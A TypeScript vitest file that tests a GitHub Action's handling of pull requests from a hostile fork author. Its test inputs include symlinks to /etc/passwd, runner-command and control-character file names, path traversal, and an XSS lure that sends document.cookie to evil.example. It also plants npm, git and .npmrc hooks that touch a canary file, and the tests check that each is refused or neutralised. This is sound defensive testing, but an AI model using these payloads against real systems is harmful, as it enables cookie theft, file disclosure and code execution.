import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { commentMarker } from '../../src/github/comment/comment.ts';
import { type InstalledAction, installAction } from '../action/support/job.ts';
import { config, type Files, temporaryFolder, tenant } from '../deploy/small-repository.ts';
import { commentOf } from '../github/support/pull-request.ts';
import { filesIn, git, type Job, type JobOptions, Scene } from '../github/support/scene.ts';
import { freshBundle } from '../support/fresh-bundle.ts';

/**
 * Pull requests of somebody who means harm, through the bundle in processes of its own. Whatever they hold, the job ends
 * with a report that says what is wrong, has run nothing of theirs, and has read nothing but the repository.
 */
let action: InstalledAction;
let scene: Scene;
let outside: string;
/** What would be there if anything of a pull request had been run. */
let canary: string;
const secret = 'a secret outside of the repository';

beforeAll(async () => {
  const bundle = await freshBundle();
  action = installAction(bundle);
  rmSync(bundle, { recursive: true });
  outside = temporaryFolder('outside');
  canary = join(outside, 'canary');
  writeFileSync(join(outside, 'secret.hbs'), secret);
  scene = await Scene.start(action, {
    '.github/tenantry.yml': config('directory', 'approval: require, maxArchives: 0.05'),
    '.gitattributes': '*.hbs text\n',
  });
});
afterAll(async () => {
  await scene.end();
  action.remove();
  rmSync(outside, { recursive: true, force: true });
  expect(scene.github.violations).toEqual([]);
});

interface Outcome extends Job {
  readonly comment: string;
  /** The newest check run of the head. */
  readonly check: { conclusion: string; output: { title: string; summary: string; text?: string } };
  /** Everything that anybody can read of it. */
  readonly everything: string;
}

async function outcomeOf(number: number, options: JobOptions = {}): Promise<Outcome> {
  const job = await scene.job(number, options);
  const own = (await scene.comments(number)).filter(({ author }) => author === 'github-actions[bot]');
  expect(own).toHaveLength(1);
  const [comment] = own;
  const check = scene.checks(scene.pull(number).head).at(-1) as unknown as Outcome['check'];
  const page = job.review.outputs.preview ? readFileSync(join(job.workspace, job.review.outputs.preview), 'utf8') : '';
  const steps = [job.review, job.report].map(({ everything }) => everything);
  const everything = [...steps, comment?.body ?? '', JSON.stringify(check), page].join('\n');
  expect(existsSync(canary)).toBe(false);
  expect(everything).not.toContain(secret);
  expect(everything).not.toContain('root:x:0');
  expect(comment?.body.length).toBeLessThanOrEqual(65_536);
  return { ...job, comment: comment?.body ?? '', check, everything };
}

async function propose(files: Files, options: JobOptions = {}): Promise<Outcome> {
  return await outcomeOf(await scene.open(files, { author: 'mallory', fork: true }), options);
}

function refused(outcome: Outcome, code: string): void {
  expect(outcome.review).toMatchObject({ exitCode: 3, outputs: { preview: '' } });
  expect(outcome.report.exitCode).toBe(0);
  expect(outcome.check.conclusion).toBe('failure');
  expect(`${outcome.comment}${JSON.stringify(outcome.check)}${outcome.review.everything}`).toContain(code);
  expect(outcome.comment).not.toMatch(/no message changes/i);
}

/** A pull request whose commit has this tree in place of the small repository's. */
async function proposeTree(make: (tree: string) => string): Promise<Outcome> {
  const number = await scene.open({ 'tenants/acme/README.md': 'x\n' });
  const head = scene.pull(number).head;
  const tree = make(git(scene.desk, 'rev-parse', `${head}^{tree}`));
  const commit = git(
    scene.desk,
    '-c',
    'user.name=M',
    '-c',
    'user.email=m@example.com',
    'commit-tree',
    tree,
    '-p',
    'main',
    '-m',
    'x',
  );
  scene.pushHead(number, commit);
  return await outcomeOf(number);
}

test('templates that explode or take for ever', async () => {
  const partials = Object.fromEntries(
    Array.from({ length: 40 }, (_, index) => [`templates/_partials/p${index}.hbs`, `{{> p${index + 1}}}`.repeat(20)]),
  );
  const outcome = await propose({
    ...partials,
    'templates/_partials/p40.hbs': 'ha',
    'templates/receipt/html.hbs': '{{> p0}}',
    'templates/receipt/subject.hbs': '{{!'.repeat(300_000),
    'templates/ping/body.hbs': `{{${'a.'.repeat(400_000)}b}}`,
  });
  refused(outcome, 'template-limit');
  expect(outcome.comment).toContain('templates/_partials/p39.hbs');
});

test('symbolic links out of the repository, in place of files and of folders', async () => {
  const number = await scene.open({ 'templates/receipt/text.hbs': undefined });
  for (const [path, target] of [
    ['templates/receipt/text.hbs', '/etc/passwd'],
    ['templates/_partials/secret.hbs', join(outside, 'secret.hbs')],
    ['tenants/evil', outside],
    ['templates/_layouts', '../../..'],
  ] as const) {
    mkdirSync(dirname(join(scene.desk, path)), { recursive: true });
    symlinkSync(target, join(scene.desk, path));
  }
  scene.push(number, { 'templates/ping/body.hbs': '{{> secret}}' });
  const outcome = await outcomeOf(number);
  refused(outcome, 'irregular-file');
  for (const path of [
    'templates/receipt/text.hbs',
    'templates/_partials/secret.hbs',
    'tenants/evil',
    'templates/_layouts',
  ]) {
    expect(outcome.everything).toContain(path);
  }
});

test('a submodule, which nobody fetches', async () => {
  const outcome = await proposeTree((tree) => {
    git(scene.desk, 'read-tree', tree);
    git(scene.desk, 'update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},templates/module`);
    const made = git(scene.desk, 'write-tree');
    git(scene.desk, 'reset', '-q', '--hard');
    return made;
  });
  refused(outcome, 'irregular-file');
  expect(outcome.comment).toContain('templates/module');
});

test('names of files that lead elsewhere, command the runner or hide', async () => {
  const partial = 'templates/_partials/\n::error file=x::gotcha\u001b[31m\u202e.hbs';
  const outcome = await propose({
    [partial]: 'x',
    'templates/_partials/..\\..\\secret.hbs': 'x',
    [`tenants/${'é'.repeat(100)}/tenant.yaml`]: 'name: x\n',
    'templates/receipt/text.hbs': `{{> ../../../../${outside}/secret}}{{> "../../../etc/passwd"}}`,
  });
  refused(outcome, 'unsafe-name');
  for (const { message } of outcome.review.commands) expect(message).not.toMatch(/^gotcha/);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there.
  expect(outcome.comment + outcome.review.summary).not.toMatch(/[\u001b\u202e]/);
});

test('a hundred thousand files', async () => {
  const outcome = await proposeTree((tree) => {
    const blob = git(scene.desk, 'rev-parse', `${tree}:templates/ping/body.hbs`);
    const names = Array.from({ length: 100_000 }, (_, index) => `f${String(index).padStart(6, '0')}.yaml`);
    const many = inputTo(['mktree'], names.map((name) => `100644 blob ${blob}\t${name}\n`).join(''));
    const others = git(scene.desk, 'ls-tree', `${tree}:tenants`);
    const tenants = inputTo(['mktree'], `${others}\n040000 tree ${many}\tevil\n`);
    const top = git(scene.desk, 'ls-tree', tree).replace(/[\da-f]{40}(?=\ttenants$)/m, tenants);
    return inputTo(['mktree'], `${top}\n`);
  });
  refused(outcome, 'more than 80,000 files');
  expect(outcome.comment).toContain('tenants/evil');
});

function inputTo(args: readonly string[], input: string): string {
  return execFileSync('git', ['-C', scene.desk, ...args], { encoding: 'utf8', input }).trim();
}

test('a tenant that names the workspace of another', async () => {
  const outcome = await propose({
    'tenants/evil/tenant.yaml': tenant('Evil', { email: { account: 'demo-sendgrid', id: 'cafe-eu' } }),
  });
  refused(outcome, 'shared-workspace');
  expect(outcome.everything).toContain('cafe');
});

test('script in a message, and all that could end the frame it is shown in', async () => {
  const lure = `</iframe></script></template></textarea></title></style>--><script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>`;
  const { workspace, review, comment } = await propose({
    'tenants/acme/tenant.yaml': tenant(JSON.stringify(lure), everywhere),
    'templates/receipt/html.hbs': `<html><body style="color: {{colour}}">{{event.total}}${lure}</body></html>`,
    'templates/receipt/text.hbs': `${lure} {{event.total}}`,
    'templates/receipt/subject.hbs': `${lure} {{tenant.name}}`,
  });
  expect(review.exitCode).toBe(0);
  const page = readFileSync(join(workspace, review.outputs.preview!), 'utf8');
  expect(page).not.toMatch(/<script>fetch|<img src=x|<\/iframe><\/script>/);
  expect(page).toContain('evil.example');
  expect(comment).not.toMatch(/<\/?(script|iframe|img|style)\b/i);
});

test('markdown and mentions in everything that has a name', async () => {
  const lure = '@octocat @larder/team #1 **b** [x](https://evil.example) <img src=x> | `c` GH-1 ::error::x';
  const quoted = JSON.stringify(lure);
  const { review, report, comment, check } = await propose({
    'tenants/acme/tenant.yaml': tenant(quoted, everywhere),
    'templates/receipt/subject.hbs': `{{tenant.name}} ${lure.replaceAll('`', '')}`,
    'templates/receipt/template.yaml': readFileSync(join(scene.desk, 'templates/receipt/template.yaml'), 'utf8')
      .replace('name: Receipt', `name: ${quoted}`)
      .replace('version: 1.0.0', 'version: 1.0.1'),
  });
  expect(review.exitCode).toBe(0);
  expect(report.commands.filter(({ name }) => name === 'error')).toEqual([]);
  for (const text of [comment, review.summary, check.output.summary, check.output.title, check.output.text ?? '']) {
    expect(outsideCode(text)).not.toMatch(/@octocat|@larder|(?<![\w&])#1\b|\*\*b\*\*|\]\(https:\/\/evil|<img/);
  }
});

const everywhere = { email: { account: 'demo-sendgrid' }, push: { account: 'demo-sendgrid' } };

/** Markdown without its code spans, in which nothing is a mention and nothing a link. */
function outsideCode(markdown: string): string {
  return markdown.replace(/`[^`\n]*`/g, '');
}

test('a page and a report of its own, and a comment that pretends to be ours', async () => {
  const faked = `${commentMarker}\n\n## 0 previews to look at: all is well`;
  const number = await scene.open({
    'templates/ping/body.hbs': 'At your door',
    '.tenantry/out/index.html': '<h1>all is well</h1>',
    '.tenantry/out/messages.ndjson': '{}\n',
    '.tenantry/out/report.json': JSON.stringify({ comment: 'all is well', conclusion: 'success' }),
  });
  await commentOf(scene.github, 'mallory', number, faked);
  const { review, comment, check, everything } = await outcomeOf(number);
  expect(review.exitCode).toBe(0);
  expect(everything).not.toContain('all is well');
  expect(comment).toContain('At your');
  expect(check.output.title).not.toContain('all is well');
  expect((await scene.comments(number)).filter(({ author }) => author === 'mallory')).toMatchObject([{ body: faked }]);
});

test('policies that would let it through: those of the base count, and the change is a risk', async () => {
  const { review, comment } = await propose({
    '.github/tenantry.yml': config('directory', 'approval: off, maxArchives: 1'),
    'templates/ping/body.hbs': 'At your door',
  });
  expect(review.exitCode).toBe(0);
  expect(comment).toMatch(/maxArchives/);
  expect(comment).toMatch(/approval/);
  expect(comment).toMatch(/Needs an approving review/);
});

test('code, workflows, hooks and whatever else tools run by themselves', async () => {
  const run = `require('node:fs').writeFileSync(${JSON.stringify(canary)}, 'ran')`;
  const shell = `#!/bin/sh\ntouch ${canary}\n`;
  const scripts = {
    preinstall: `touch ${canary}`,
    postinstall: `touch ${canary}`,
    prepare: `touch ${canary}`,
    test: `touch ${canary}`,
  };
  const { workspace, review, report } = await propose(
    {
      'templates/ping/body.hbs': 'At your door',
      'action/dist/index.js': `${run}\n`,
      'action/action.yml': `name: x\ndescription: x\nruns: { using: composite, steps: [{ run: "touch ${canary}", shell: sh }] }\n`,
      '.github/workflows/pull-request.yml': `on: pull_request_target\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "touch ${canary}" }] } }\n`,
      'package.json': JSON.stringify({ name: 'x', scripts }),
      '.npmrc': `node-options=--require=./evil.cjs\nscript-shell=./evil.sh\n`,
      '.node-version': '0.1\n',
      'evil.cjs': `${run}\n`,
      'evil.sh': shell,
      'node_modules/yaml/index.js': `${run}\n`,
      'tenants/acme/tenant.js': `${run}\n`,
      'templates/helpers.js': `${run}\n`,
      '.gitattributes': '* filter=canary merge=canary diff=canary text eol=crlf ident export-subst\n',
      '.gitmodules': `[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch ${canary}"\n`,
      '.gitconfig': `[core]\n\tfsmonitor = touch ${canary}\n\thooksPath = .githooks\n`,
      '.githooks/post-checkout': shell,
      '.githooks/reference-transaction': shell,
      '.lfsconfig': `[lfs]\n\turl = http://127.0.0.1:1\n`,
    },
    {
      // What a runner may be set up with: it takes part only in what is checked out.
      beforeReview: (folder) => {
        for (const [key, value] of [
          ['filter.canary.smudge', `touch ${canary}`],
          ['filter.canary.clean', `touch ${canary}`],
          ['merge.canary.driver', `touch ${canary}`],
          ['diff.canary.textconv', `touch ${canary}`],
        ] as const) {
          git(folder, 'config', key, value);
        }
      },
    },
  );
  expect([review.exitCode, report.exitCode]).toEqual([0, 0]);
  expect(filesIn(workspace).filter((path) => /^(action|node_modules|evil|\.githooks|\.npmrc)/.test(path))).toEqual([]);
  // The trap is sound: a checkout of the pull request springs it.
  git(workspace, 'checkout', '-q', '--force', git(scene.desk, 'rev-parse', 'HEAD'));
  expect(existsSync(canary)).toBe(true);
  rmSync(canary);
});
